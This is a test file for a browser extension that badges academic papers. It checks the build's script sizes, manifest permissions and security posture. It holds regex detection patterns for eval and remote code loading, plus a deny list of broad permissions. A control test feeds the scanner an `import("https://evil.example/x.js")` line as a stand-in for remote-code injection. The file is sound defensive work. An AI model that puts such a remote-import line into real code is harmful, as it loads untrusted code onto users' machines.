/**
 * The built extension as files (no browser): the content script stays small and carries no dataset (the
 * background owns the data and answers by message), and the manifest asks for exactly the documented
 * permissions. Runs on the build global-setup made (or E2E_EXTENSION_DIR).
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { CONTENT_SCRIPT_MATCHES, LIST_SCRIPT_MATCHES } from '../../lib/sites';
import { EXTENSION_DIR } from './build';
import { REPO_ROOT } from './fixture-server';
import { PAPERS } from './helpers/dataset';

/** The content script's size budget (lib/settings.ts and lib/messages-client.ts are written to fit it). */
const CONTENT_SCRIPT_BUDGET_GZIP = 30 * 1024;
/** Every content script and the match patterns lib/sites gives it (papers: one paper's page; lists: issue #5). */
const CONTENT_SCRIPTS: Record<string, readonly string[]> = {
  'content-scripts/papers.js': CONTENT_SCRIPT_MATCHES,
  'content-scripts/lists.js': LIST_SCRIPT_MATCHES,
};
const SCRIPT_FILES = Object.keys(CONTENT_SCRIPTS).sort();

interface Manifest {
  permissions?: string[];
  optional_permissions?: string[];
  host_permissions?: string[];
  optional_host_permissions?: string[];
  content_scripts?: { matches: string[]; js?: string[] }[];
  web_accessible_resources?: unknown[];
  background?: { service_worker?: string };
  content_security_policy?: { extension_pages?: string; sandbox?: string } | string;
  icons?: Record<string, string>;
}

const manifest = JSON.parse(readFileSync(path.join(EXTENSION_DIR, 'manifest.json'), 'utf8')) as Manifest;
const contentScriptFiles = (manifest.content_scripts ?? []).flatMap((cs) => cs.js ?? []);
const read = (file: string) => readFileSync(path.join(EXTENSION_DIR, file), 'utf8');

/**
 * Record titles to look for: every 40th record, kept to plain ASCII without quotes or backslashes so a bundler
 * cannot have escaped them differently. They come from the dataset only; no UI string is a paper title.
 */
const SAMPLE_TITLES = PAPERS.filter((_, i) => i % 40 === 0)
  .map((r) => r.title)
  .filter((t) => /^[\x20-\x7e]+$/.test(t) && !/["'`\\]/.test(t) && t.length >= 25);

/** Strings that only the dataset has: its shape (JSON keys the UI never reads) and its version id. */
const datasetMeta = JSON.parse(readFileSync(path.join(REPO_ROOT, 'data/dataset-meta.json'), 'utf8')) as {
  version: string;
};
const DATASET_MARKERS = [
  'normTitle',
  'titleVariants',
  '"provenance":[',
  'provenance:[{',
  datasetMeta.version,
];

describe('content script bundles', () => {
  it('are declared once each in the manifest', () => {
    expect([...contentScriptFiles].sort()).toEqual(SCRIPT_FILES);
  });

  it.each(SCRIPT_FILES)(`%s is at most ${CONTENT_SCRIPT_BUDGET_GZIP / 1024} KB gzipped`, (file) => {
    const size = gzipSync(readFileSync(path.join(EXTENSION_DIR, file)), { level: 9 }).length;
    expect(size).toBeGreaterThan(1024);
    expect(size, `${file} is ${(size / 1024).toFixed(1)} KB gzipped`).toBeLessThanOrEqual(
      CONTENT_SCRIPT_BUDGET_GZIP,
    );
  });

  it('has enough sample titles to be a real check', () => {
    expect(SAMPLE_TITLES.length).toBeGreaterThanOrEqual(15);
  });

  it.each(SCRIPT_FILES)('%s contains no record of the dataset and none of its shape', (file) => {
    const code = read(file);
    expect(SAMPLE_TITLES.filter((t) => code.includes(t))).toEqual([]);
    expect(DATASET_MARKERS.filter((m) => code.includes(m))).toEqual([]);
  });

  it('control: the dataset ships as data/papers.json, which does contain those titles', () => {
    const dataset = read('data/papers.json');
    expect(SAMPLE_TITLES.filter((t) => !dataset.includes(t))).toEqual([]);
  });

  it('keeps the dataset out of the service worker script too (it is fetched only when seeding)', () => {
    const background = read(manifest.background?.service_worker ?? 'background.js');
    expect(SAMPLE_TITLES.filter((t) => background.includes(t))).toEqual([]);
  });

  it.each(SCRIPT_FILES)(
    '%s opens no database and loads no schema library (those live in the background)',
    (file) => {
      const code = read(file);
      for (const marker of ['indexedDB', 'ZodError']) expect(code, marker).not.toContain(marker);
    },
  );
});

describe('manifest permissions', () => {
  it('asks for exactly the API permissions README.md documents, and none of the broad ones', () => {
    const readme = readFileSync(path.join(REPO_ROOT, 'README.md'), 'utf8');
    const section = readme.split(/^## Permissions/m)[1]?.split(/^## /m)[0] ?? '';
    // Rows of README's "Permissions, and why" table: | `name` | why |
    const documented = [...section.matchAll(/^\|\s*`([^`]+)`\s*\|/gm)].map((m) => m[1]!);
    expect(documented).toContain('storage');
    expect([...(manifest.permissions ?? [])].sort()).toEqual([...documented].sort());
    expect(manifest.optional_permissions ?? []).toEqual([]);
    const broad = [
      'tabs',
      'activeTab',
      'scripting',
      'webRequest',
      'webNavigation',
      'history',
      'cookies',
      '<all_urls>',
    ];
    expect((manifest.permissions ?? []).filter((p) => broad.includes(p))).toEqual([]);
  });

  it('has host access only to arXiv and OpenReview PDF paths (to badge PDF tabs)', () => {
    expect([...(manifest.host_permissions ?? [])].sort()).toEqual(
      [
        'https://arxiv.org/pdf/*',
        'https://www.arxiv.org/pdf/*',
        'https://export.arxiv.org/pdf/*',
        'https://openreview.net/pdf*',
      ].sort(),
    );
    expect(manifest.optional_host_permissions ?? []).toEqual([]);
    expect(manifest.web_accessible_resources ?? []).toEqual([]);
  });

  it('injects each content script exactly where lib/sites says, and nowhere broader', () => {
    for (const cs of manifest.content_scripts ?? []) {
      const [file] = cs.js ?? [];
      expect(cs.js).toHaveLength(1);
      expect([...cs.matches].sort()).toEqual([...(CONTENT_SCRIPTS[file!] ?? [])].sort());
    }
    // Narrow: https, one named host (no wildcard), one site section (never the whole site).
    const patterns = (manifest.content_scripts ?? []).flatMap((cs) => cs.matches);
    for (const pattern of patterns) {
      const m = /^https:\/\/([^/*]+)(\/.+)$/.exec(pattern);
      expect(m, pattern).not.toBeNull();
      expect(m![2], pattern).not.toBe('/*');
    }
  });
});

/** Every file of the build, relative to its root. */
function buildFiles(dir = EXTENSION_DIR, prefix = ''): string[] {
  return readdirSync(path.join(dir, prefix), { withFileTypes: true }).flatMap((entry) => {
    const rel = prefix ? `${prefix}/${entry.name}` : entry.name;
    return entry.isDirectory() ? buildFiles(dir, rel) : [rel];
  });
}

/** A CSP string as directive → sources. */
function parseCsp(policy: string): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), sources);
  }
  return directives;
}

/**
 * Ways of running a string as code. Each hit must sit inside one of ALLOWED_DYNAMIC_CODE, or the test fails.
 */
const DYNAMIC_CODE: readonly RegExp[] = [
  /\beval\s*\(/g,
  /\bnew\s+Function\b/g,
  /(?<![.\w$])Function\s*\(/g,
  // An alias of the Function constructor (`let e=Function,` then `new e(…)`), as minifiers write it.
  /[=,(:]\s*Function\s*[,;)]/g,
  /\bset(?:Timeout|Interval)\s*\(\s*["'`]/g,
  /\bimportScripts\s*\(/g,
  /\bimport\s*\(\s*["'`](?:https?:)?\/\//g,
];

/**
 * Known, harmless occurrences, each with why. zod 4 compiles object parsers with `new Function` only when a
 * probe `Function("")` succeeds; the extension CSP (no 'unsafe-eval') makes the probe throw an EvalError, so zod
 * takes its interpreted path and no string is ever run as code. Nothing else may construct code.
 */
const ALLOWED_DYNAMIC_CODE: readonly { why: string; pattern: RegExp }[] = [
  {
    why: "zod's allowsEval probe (returns false under the extension CSP)",
    pattern: /try\{return Function\(``\),!0\}catch\{return!1\}/g,
  },
  {
    why: "zod's Doc.compile (used only when the probe above returned true)",
    pattern: /compile\(\)\{let [\w$]+=Function,[\w$]+=this\?\.content\?\?\[``\];return new [\w$]+\(/g,
  },
];

/** Hits of DYNAMIC_CODE in `code` that no ALLOWED_DYNAMIC_CODE pattern covers, with some context. */
export function unexplainedDynamicCode(code: string): string[] {
  const allowed: [number, number][] = [];
  for (const { pattern } of ALLOWED_DYNAMIC_CODE) {
    for (const m of code.matchAll(pattern)) allowed.push([m.index, m.index + m[0].length]);
  }
  const hits: string[] = [];
  for (const pattern of DYNAMIC_CODE) {
    for (const m of code.matchAll(pattern)) {
      const at = m.index;
      if (allowed.some(([from, to]) => at >= from && at < to)) continue;
      hits.push(code.slice(Math.max(0, at - 60), at + 60));
    }
  }
  return hits;
}

describe('security posture of the build', () => {
  const files = buildFiles();
  const scripts = files.filter((f) => /\.[cm]?js$/.test(f));
  const pages = files.filter((f) => f.endsWith('.html'));

  it('has a strict extension-pages CSP: scripts and objects from the package only', () => {
    const csp = manifest.content_security_policy;
    const policy = typeof csp === 'string' ? csp : csp?.extension_pages;
    expect(policy, 'wxt.config.ts must set content_security_policy.extension_pages').toBeTypeOf('string');
    const directives = parseCsp(policy ?? '');
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(["'self'", "'none'"]).toContain((directives.get('object-src') ?? []).join(' '));
    for (const [name, sources] of directives) {
      for (const source of sources) {
        expect(source, `${name} ${source}`).not.toMatch(
          /unsafe-eval|unsafe-inline|wasm-unsafe-eval|^https?:|^\*$|^data:|^blob:/,
        );
      }
    }
  });

  it('loads no remote code: every page script is a packaged file', () => {
    expect(pages.length).toBeGreaterThan(0);
    for (const page of pages) {
      const html = read(page);
      const sources = [...html.matchAll(/<script\b[^>]*\bsrc\s*=\s*["']([^"']+)["']/gi)].map((m) => m[1]!);
      for (const src of sources) {
        expect(src, `${page}: ${src}`).not.toMatch(/^(?:[a-z][a-z0-9+.-]*:)?\/\//i);
        expect(files, `${page}: ${src}`).toContain(src.replace(/^\//, '').replace(/^\.\//, ''));
      }
      // Inline scripts would need 'unsafe-inline' (which the CSP refuses); none are emitted.
      expect(html, page).not.toMatch(/<script\b(?![^>]*\bsrc\s*=)[^>]*>\s*\S/i);
    }
    for (const file of scripts) {
      expect(read(file), file).not.toMatch(/\bimport\s*\(\s*["'`](?:https?:)?\/\//);
      expect(read(file), file).not.toMatch(/\bimport\s*["'`](?:https?:)?\/\//);
    }
  });

  it('runs no string as code: no eval, no Function constructor, beyond the explained zod occurrences', () => {
    expect(scripts.length).toBeGreaterThan(3);
    for (const file of scripts) expect(unexplainedDynamicCode(read(file)), file).toEqual([]);
  });

  it('control: the dynamic-code scan finds what it looks for', () => {
    expect(unexplainedDynamicCode('a=1;eval(b)')).toHaveLength(1);
    expect(unexplainedDynamicCode('x=new Function("a","return a")')).toHaveLength(2);
    expect(unexplainedDynamicCode('let e=Function,t=1;new e(t)')).toHaveLength(1);
    expect(unexplainedDynamicCode('setTimeout("alert(1)",1)')).toHaveLength(1);
    expect(unexplainedDynamicCode('import("https://evil.example/x.js")')).toHaveLength(1);
    expect(unexplainedDynamicCode('try{return Function(``),!0}catch{return!1}')).toEqual([]);
    expect(unexplainedDynamicCode('f.evaluate(x);Function.prototype.call;c=Function.call.bind(o)')).toEqual(
      [],
    );
  });

  it('exposes no web-accessible resources and ships an icon at every size', () => {
    expect(manifest.web_accessible_resources ?? []).toEqual([]);
    expect(Object.keys(manifest.icons ?? {}).sort((a, b) => Number(a) - Number(b))).toEqual([
      '16',
      '32',
      '48',
      '96',
      '128',
    ]);
    for (const icon of Object.values(manifest.icons ?? {})) expect(files).toContain(icon);
  });
});
